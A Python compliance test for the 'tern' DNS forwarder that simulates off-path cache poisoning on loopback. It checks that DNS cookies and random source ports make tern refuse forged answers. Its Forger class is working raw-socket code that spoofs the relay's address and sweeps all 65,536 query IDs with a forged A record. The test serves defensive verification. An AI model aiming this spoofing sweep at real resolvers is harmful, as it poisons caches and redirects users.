#!/usr/bin/env python3
"""Off-path forgery against tern's forwarder (issue 15; docs/security.md).

    client ──► tern (forwarder) ──► relay (127.0.0.1) ──► BIND 9 (authoritative)
                     ▲
                     └── forger: raw UDP datagrams from the relay's address and port

BIND 9 serves the zone `example`; tern forwards to a relay on loopback that passes queries
to BIND and holds the answer to the target question until the forger has finished (and at
least 200 ms). The forger is stronger than an off-path attacker: the relay tells it the
exact source port of tern's query and the question in its exact 0x20 case, so all it must
guess is the ID; it sends one forged answer (www.example. A 203.0.113.66) for every one of
the 65,536 IDs, from the relay's address and port, through a raw socket (root).

Run 1, BIND with DNS cookies (its default): tern first learns BIND's server cookie, then
the forger sweeps every ID while the real answer is held. The forged answer with the right
ID must be refused for its missing cookie (tern's `bad cookie` counter shows it reached the
check), and the client must get, and tern cache, only BIND's answer (192.0.2.80).

Run 2, BIND with `answer-cookie no`: an upstream without cookies. First a control that
shows the forger works: knowing the current port, it poisons the answer (the guess of the
ID is all that is left, and the sweep makes it). Then the realistic case: the forger knows
the port of the previous query (as an attacker who saw one query at a server of its own
would) and sweeps every ID at that port during the next query: nothing is accepted,
because every query leaves from a new port drawn at random; the test checks that the port
changed and the answer is BIND's.

Usage (root, from the repository root; loopback only; starts and stops tern and named):

    TERN_BIN=target/release/tern python3 tests/compliance/forgery.py

Exits 1 on any failure, with the reason.
"""

from __future__ import annotations

import os
import pathlib
import re
import select
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

import harness
from harness import encode_name, header

A, IN = 1, 1
GENUINE = bytes([192, 0, 2, 80])  # www.example. A in harness.ZONE_TEXT
FORGED = bytes([203, 0, 113, 66])
TARGET = "www.example."
IDS = 65536
# Sweeps tried before a run is called inconclusive (the kernel may drop datagrams of a
# sweep when a socket buffer is full; each sweep is every ID again).
SWEEPS = 3
# The least time the relay holds the target's answer (issue 15), on top of waiting for
# the forger to finish.
HOLD = 0.2
# Every wait is bounded.
WAIT = 30.0
RELAY_LIFETIME = 300.0


def fail(message: str) -> None:
    print(f"forgery: FAIL: {message}")
    sys.exit(1)


def question_bytes(message: bytes) -> bytes:
    """The question section (name, type, class) of a message with one question."""
    pos = 12
    while message[pos] != 0:
        pos += 1 + message[pos]
    return message[12:pos + 5]


def query(ident: int, name: str) -> bytes:
    return header(ident, 0x0100, 1) + encode_name(name) + struct.pack("!HH", A, IN)


def first_a(answer: bytes) -> bytes | None:
    """The RDATA of the first A record in the answer section, if any."""
    ancount = struct.unpack("!H", answer[6:8])[0]
    pos = harness.skip_name(answer, 12) + 4
    for _ in range(ancount):
        pos = harness.skip_name(answer, pos)
        rtype, _, _, rdlen = struct.unpack("!HHIH", answer[pos:pos + 10])
        pos += 10
        if rtype == A:
            return answer[pos:pos + rdlen]
        pos += rdlen
    return None


def rcode(answer: bytes) -> int:
    return harness.summarize(answer)["rcode"]


class Relay:
    """Passes tern's queries to BIND and BIND's answers back, from 127.0.0.1:port. The
    answer to the target question (case-insensitive) is held until `release()`; `seen`
    is set when the target's query arrives, with its source port and exact question."""

    def __init__(self, upstream: tuple[str, int]):
        self.tern_side = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.tern_side.bind(("127.0.0.1", 0))
        self.port = self.tern_side.getsockname()[1]
        self.bind_side = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.bind_side.connect(upstream)
        self.pending: dict[tuple[int, bytes], tuple[str, int]] = {}
        self.ports: list[int] = []  # the source port of every query from tern, in order
        self.target: bytes | None = None  # the lowercased question held, if any
        self.seen = threading.Event()
        self.seen_port = 0
        self.seen_question = b""
        self.released = threading.Event()
        self.held: list[tuple[bytes, tuple[str, int]]] = []
        self.stopped = threading.Event()
        self.lock = threading.Lock()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def hold(self, name: str) -> None:
        """Holds the answer to `name` A from now on, until `release`."""
        with self.lock:
            self.target = encode_name(name).lower() + struct.pack("!HH", A, IN)
            self.seen.clear()
            self.released.clear()

    def release(self) -> None:
        self.released.set()

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join(timeout=5)
        self.tern_side.close()
        self.bind_side.close()


    def run(self) -> None:
        started = time.monotonic()
        while not self.stopped.is_set() and time.monotonic() - started < RELAY_LIFETIME:
            if self.released.is_set():
                with self.lock:
                    held, self.held = self.held, []
                for answer, peer in held:
                    self.tern_side.sendto(answer, peer)
            readable, _, _ = select.select([self.tern_side, self.bind_side], [], [], 0.02)
            for sock in readable:
                message, peer = sock.recvfrom(65535)
                if len(message) < 17:
                    continue
                ident = struct.unpack("!H", message[:2])[0]
                try:
                    question = question_bytes(message)
                except IndexError:
                    continue
                key = (ident, question.lower())
                if sock is self.tern_side:
                    with self.lock:
                        self.pending[key] = peer
                        self.ports.append(peer[1])
                        if self.target is not None and question.lower() == self.target:
                            self.seen_port = peer[1]
                            self.seen_question = question
                            self.seen.set()
                    self.bind_side.send(message)
                    continue
                with self.lock:
                    client = self.pending.pop(key, None)
                    if client is None:
                        continue
                    if self.target is not None and question.lower() == self.target \
                            and not self.released.is_set():
                        self.held.append((message, client))
                        continue
                self.tern_side.sendto(message, client)


class Forger:
    """Forged answers from the relay's address and port, through a raw socket."""

    def __init__(self, relay_port: int):
        try:
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        except PermissionError:
            fail("a raw socket needs root (CI runs as root): the forger cannot spoof")
        self.relay_port = relay_port

    def sweep(self, port: int, question: bytes) -> None:
        """One forged answer for every ID to 127.0.0.1:`port`, in `question`'s case."""
        record = b"\xc0\x0c" + struct.pack("!HHIH", A, IN, 300, 4) + FORGED
        body = struct.pack("!HHHHH", 0x8580, 1, 1, 0, 0) + question + record
        udp_len = 8 + 2 + len(body)
        head = struct.pack("!HHHH", self.relay_port, port, udp_len, 0)  # checksum 0: none
        for ident in range(IDS):
            packet = head + struct.pack("!H", ident) + body
            for _ in range(100):
                try:
                    self.raw.sendto(packet, ("127.0.0.1", 0))
                    break
                except BlockingIOError:
                    time.sleep(0.001)
            if ident % 256 == 255:
                # Paced, so that tern's socket buffer is drained as the sweep goes.
                time.sleep(0.0005)

    def close(self) -> None:
        self.raw.close()


def tern_counters(tern_bin: pathlib.Path, control: pathlib.Path) -> dict[str, int]:
    """tern's forward counters (all cores) from `tern stats`."""
    out = subprocess.run([str(tern_bin), "stats", "--socket", str(control)],
                         capture_output=True, text=True, timeout=10)
    if out.returncode != 0:
        fail(f"tern stats: {out.stderr.strip()}")
    total = [line for line in out.stdout.splitlines() if line.startswith("all cores:")]
    line = total[0] if total else out.stdout.splitlines()[0]
    counters = {}
    for name, pattern in (("answers", r"forward queries \d+ answers (\d+)"),
                          ("rejected", r"rejected (\d+)"),
                          ("bad_cookie", r"bad cookie (\d+)"),
                          ("sockets", r"sockets (\d+)")):
        found = re.search(pattern, line)
        if not found:
            fail(f"no {name} in tern stats: {line}")
        counters[name] = int(found.group(1))
    return counters


class Setup:
    """BIND on the zone `example`, the relay, and tern forwarding to the relay."""

    def __init__(self, tmp: pathlib.Path, bind_options: str):
        bind_zones = tmp / "bind-zones"
        bind_zones.mkdir()
        (bind_zones / f"{harness.ZONE}.zone").write_text(harness.ZONE_TEXT)
        tern_zones = tmp / "tern-zones"
        tern_zones.mkdir()
        (tern_zones / "local.test.zone").write_text(
            "$ORIGIN local.test.\n$TTL 300\n@ SOA ns1 hostmaster 1 7200 3600 1209600 300\n"
            "  NS ns1\nns1 A 127.0.0.1\n")
        self.bind = harness.Bind(tmp / "bind", bind_zones, [harness.ZONE])
        self.bind.extra_options = bind_options
        self.relay = Relay(self.bind.addr)
        self.control = tmp / "ctl.sock"
        config = (f"control-socket: {self.control}\n"
                  "forward:\n"
                  "  allow: [127.0.0.0/8]\n"
                  f"  upstreams: ['127.0.0.1:{self.relay.port}']\n"
                  "  timeout: 30s\n"
                  "  retries: 0\n")
        self.tern = harness.ConfiguredTern(harness.tern_binary(), tmp / "tern", tern_zones,
                                           ["local.test"], config_text=config)

    def __enter__(self):
        self.serving = harness.serving({"bind": self.bind, "tern": self.tern})
        self.serving.__enter__()
        return self

    def __exit__(self, *exc):
        self.relay.stop()
        return self.serving.__exit__(*exc)

    def ask(self, ident: int, name: str) -> bytes:
        answer = harness.udp_exchange(self.tern.addr, query(ident, name), timeout=WAIT)
        if answer is None:
            fail(f"no answer from tern for {name}")
        return answer

    def counters(self) -> dict[str, int]:
        return tern_counters(self.tern.binary, self.control)

    def attack(self, name: str, forger: Forger, port_of, until) -> bytes:
        """Asks `name` while the relay holds BIND's answer; the forger sweeps every ID at
        `port_of(seen_port)` in the question's exact case, sweep after sweep, until
        `until()` holds (at most SWEEPS); then the answer is released. Returns the
        client's answer."""
        self.relay.hold(name)
        result: dict[str, bytes] = {}
        client = threading.Thread(target=lambda: result.update(answer=self.ask(0x4242, name)))
        client.start()
        if not self.relay.seen.wait(WAIT):
            fail(f"tern never asked the relay for {name}")
        started = time.monotonic()
        for sweep in range(1, SWEEPS + 1):
            forger.sweep(port_of(self.relay.seen_port), self.relay.seen_question)
            if until():
                break
        else:
            sweep = SWEEPS
        self.sweeps = sweep
        time.sleep(max(0.0, HOLD - (time.monotonic() - started)))
        self.relay.release()
        client.join(WAIT)
        if "answer" not in result:
            fail(f"the client got no answer for {name}")
        return result["answer"]


def run_with_cookies(tmp: pathlib.Path) -> None:
    with Setup(tmp, "") as setup:
        forger = Forger(setup.relay.port)
        # Learn BIND's server cookie first (one core: tern's default).
        warm = setup.ask(1, "ns1.example.")
        if harness.summarize(warm)["rcode"] != 0:
            fail(f"the warm-up query failed: {harness.summarize(warm)}")
        before = setup.counters()

        def cookie_refused() -> bool:
            return setup.counters()["bad_cookie"] > before["bad_cookie"]

        answer = setup.attack(TARGET, forger, lambda port: port, cookie_refused)
        after = setup.counters()
        forger.close()
        got = first_a(answer)
        if not cookie_refused():
            fail(f"inconclusive: after {setup.sweeps} sweeps no forged answer with the "
                 f"right ID reached tern's cookie check ({before} -> {after})")
        if got != GENUINE:
            fail(f"with cookies, a forged answer was served: {got!r}")
        again = first_a(setup.ask(2, TARGET))
        if again != GENUINE:
            fail(f"with cookies, a forged answer was cached: {again!r}")
        forged_seen = after["rejected"] - before["rejected"]
        print(f"with cookies: {IDS} forged answers per sweep, {setup.sweeps} sweep(s); tern "
              f"refused {forged_seen} ({after['bad_cookie'] - before['bad_cookie']} for the "
              f"cookie alone: right ID, port and case), accepted 0; served and cached "
              f"BIND's answer")


def run_without_cookies(tmp: pathlib.Path) -> None:
    with Setup(tmp, "    answer-cookie no;\n") as setup:
        forger = Forger(setup.relay.port)
        # The control: a forger who knows the current port and the case has only the ID
        # to guess, and the sweep finds it.
        before = setup.counters()
        poisoned = setup.attack(TARGET, forger, lambda port: port,
                                lambda: setup.counters()["answers"] > before["answers"])
        if first_a(poisoned) != FORGED:
            fail(f"control: a forger who knows the port and case was expected to win "
                 f"without cookies, got {first_a(poisoned)!r}: the forger does not work")

        # The realistic forger knows the previous query's port, not the next one's. The
        # name does not exist: BIND's answer is NXDOMAIN, a forged one an A record.
        previous = setup.relay.ports[-1]
        before = setup.counters()
        answer = setup.attack("nope.example.", forger, lambda _port: previous, lambda: False)
        current = setup.relay.seen_port
        after = setup.counters()
        forger.close()
        if current == previous:
            fail(f"the query left from the previous query's port {previous}")
        if rcode(answer) != 3 or first_a(answer) is not None:
            fail(f"a forger who knew the previous port won: {harness.summarize(answer)}")
        print(f"without cookies: the control (port and case known) wins the ID sweep; a "
              f"forger who knows the previous query's port ({previous}; the next query left "
              f"from {current}) got 0 of {IDS} accepted; tern rejected "
              f"{after['rejected'] - before['rejected']} (the others met a closed port)")


def main() -> None:
    if os.geteuid() != 0:
        fail("run as root: the forger spoofs the relay's address with a raw socket")
    with tempfile.TemporaryDirectory(prefix="tern-forgery-") as tmp:
        tmp = pathlib.Path(tmp)
        (tmp / "1").mkdir()
        (tmp / "2").mkdir()
        run_with_cookies(tmp / "1")
        run_without_cookies(tmp / "2")
    print("forgery: 2 passed, 0 failed")


if __name__ == "__main__":
    main()
